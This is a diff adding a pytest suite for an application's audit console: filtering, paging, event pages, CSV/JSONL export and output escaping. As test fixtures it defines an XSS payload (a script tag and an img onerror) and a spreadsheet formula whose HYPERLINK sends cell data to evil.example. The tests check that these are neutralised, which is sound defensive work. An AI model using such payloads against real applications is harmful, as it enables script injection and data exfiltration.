@@ -1,0 +1,150 @@
+"""The audit trail in the console and in the command: filtered, read a page at a time, and handed out as files that do no harm."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from collections.abc import Callable, Iterator
+from datetime import UTC, datetime, timedelta
+
+import pytest
+from desk_kit import Hand, engine_of, words_of
+
+from penstock import audit
+from penstock.access import bounds, consumers, needs
+from penstock.contracts.rates import Rate
+from penstock.db.engine import Engine
+from penstock.db.rows import changing
+from penstock.testing import Runtime
+
+EVIL = "<script>window.owned=1</script>\"'><img src=x onerror=window.owned=1>"
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+
+
+@pytest.fixture
+def runtime(desk: Callable[..., Runtime]) -> Runtime:
+    made = desk()
+    engine = engine_of(made)
+    consumers.create_consumer(engine, "ann", "acme")
+    bounds.set_limit(engine, "oli", "acme", "test", Rate("5/minute"))
+    needs.set_variable(engine, "oli", "prod", "region", FORMULA)
+    return made
+
+
+def many(engine: Engine, number: int, **values: object) -> None:
+    usual = {"actor": "bot", "action": "key:created", "environment": "test", "subject": "acme", "detail": {}, "at": datetime.now(UTC)}
+    with changing(engine) as rows:
+        for _ in range(number):
+            rows.add("audit_events", **{**usual, **values})
+
+
+def listed(page: str) -> list[int]:
+    return [int(number) for number in re.findall(r'href="/-/console/audit/(\d+)"', page)]
+
+
+def test_events_are_filtered_by_who_what_whom_where_and_when(runtime: Runtime) -> None:
+    engine, vic = engine_of(runtime), Hand.of(runtime, "vic")
+    many(engine, 1, actor="olga", at=datetime.now(UTC) - timedelta(hours=5))
+
+    def found(**query: str) -> list[str]:
+        return [audit.event(engine, number).action for number in listed(vic.get("/audit", **query).text)]
+
+    assert found(actor="oli") == ["variable:set", "limit:set"]
+    assert found(actor="olga") == ["key:created"]
+    assert found(actor="olga", since="1") == []
+    assert found(actor="olga", since="24") == ["key:created"]
+    assert found(action="limit:set") == ["limit:set"]
+    assert found(action="limit") == ["limit:set"]
+    assert found(subject="acme", action="consumer") == ["consumer:created"]
+    assert found(env="prod") == ["variable:set", "environment:created"]
+    assert set(found()) >= {"user:signed-in", "variable:set", "limit:set", "consumer:created", "key:created"}
+
+
+def test_what_is_no_action_or_span_is_said_beside_its_field(runtime: Runtime) -> None:
+    vic = Hand.of(runtime, "vic")
+    action, since, exported = vic.get("/audit", action="limit:sett"), vic.get("/audit", since="x"), vic.get("/audit/export", format="xls")
+
+    assert (action.status_code, since.status_code, exported.status_code) == (422, 422, 422)
+    assert "did you mean limit:set?" in words_of(action.text)
+    assert 'id="e-action"' in action.text
+    assert 'id="e-since"' in since.text
+    assert "is no format" in words_of(exported.text)
+    assert vic.get("/audit/99999999999999999999").status_code == vic.get("/audit/123456").status_code == 404
+
+
+def test_pages_go_on_after_the_last_event_of_the_one_before(runtime: Runtime) -> None:
+    engine, vic = engine_of(runtime), Hand.of(runtime, "vic")
+    many(engine, 120)
+    found, path = list[int](), "/audit?actor=bot"
+    while path:
+        page = vic.get(path).text
+        found += listed(page)
+        match = re.search(r'href="/-/console([^"]+)" rel="next"', page)
+        path = match[1].replace("&amp;", "&") if match else ""
+        many(engine, 3)  # what comes meanwhile moves nothing
+
+    assert len(found) == 120
+    assert found == sorted(set(found), reverse=True)
+
+
+def test_an_event_is_told_in_words(runtime: Runtime) -> None:
+    vic = Hand.of(runtime, "vic")
+    (number,) = listed(vic.get("/audit", action="limit:set").text)
+    said = words_of(vic.get(f"/audit/{number}").text)
+
+    assert "limit:set acme" in said
+    assert "Who oli" in said
+    assert "rate 5/minute by consumer pipeline none" in said
+    assert "rate: 5/minute; by: consumer" in words_of(vic.get("/audit", action="limit:set").text)
+
+
+def test_an_export_has_every_event_of_its_filters_and_no_formula(runtime: Runtime, monkeypatch: pytest.MonkeyPatch) -> None:
+    engine, vic = engine_of(runtime), Hand.of(runtime, "vic")
+    monkeypatch.setattr(audit, "AT_ONCE", 10)
+    many(engine, 25, actor="+bot", subject="\tx", detail={"note": FORMULA})
+    sheet = vic.get("/audit/export", format="csv", actor="+bot")
+    lines = vic.get("/audit/export", format="jsonl", actor="+bot")
+    rows = list(csv.DictReader(io.StringIO(sheet.text, newline="")))
+    events = [json.loads(line) for line in lines.text.splitlines()]
+
+    assert (sheet.mimetype, sheet.headers["X-Content-Type-Options"]) == ("text/csv", "nosniff")
+    assert re.fullmatch(r'attachment; filename="penstock-audit-[\d-]+\.csv"', sheet.headers["Content-Disposition"])
+    assert len(rows) == len(events) == 25
+    assert {(row["actor"], row["subject"]) for row in rows} == {("'+bot", "'\tx")}
+    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values())
+    assert {(event["actor"], event["detail"]["note"]) for event in events} == {("+bot", FORMULA)}
+    assert [event["id"] for event in events] == sorted({event["id"] for event in events}, reverse=True)
+
+
+def test_an_export_is_sent_as_it_is_read(runtime: Runtime, monkeypatch: pytest.MonkeyPatch) -> None:
+    many(engine_of(runtime), 30)
+    vic, read = Hand.of(runtime, "vic"), list[int]()
+    ask = audit.events
+
+    def counted(engine: Engine, *, limit: int, **more: object) -> list[audit.Event]:
+        read.append(limit)
+        return ask(engine, limit=limit, **more)  # type: ignore[arg-type]  # the filters of a page
+
+    monkeypatch.setattr(audit, "AT_ONCE", 10)
+    monkeypatch.setattr(audit, "events", counted)
+    parts: Iterator[bytes] = iter(vic.get("/audit/export", format="jsonl", actor="bot").iter_encoded())  # type: ignore[assignment]  # Werkzeug's
+    next(parts)
+    begun = len(read)
+
+    assert (len(list(parts)), begun, len(read)) == (29, 2, 5)
+
+
+def test_nothing_that_was_typed_becomes_markup(runtime: Runtime) -> None:
+    engine, vic = engine_of(runtime), Hand.of(runtime, "vic")
+    many(engine, 1, actor=EVIL, subject=EVIL, environment="test", detail={EVIL: [EVIL, {"a": EVIL}], "b": EVIL})
+    (number,) = listed(vic.get("/audit", actor=EVIL).text)
+    pages = [
+        vic.get("/audit").text,
+        vic.get(f"/audit/{number}").text,
+        vic.get("/audit", actor=EVIL, subject=EVIL, action=EVIL, env=EVIL, since=EVIL).text,
+    ]
+
+    assert all("window.owned" in page for page in pages)
+    assert not any("<script>window" in page or "<img" in page for page in pages)
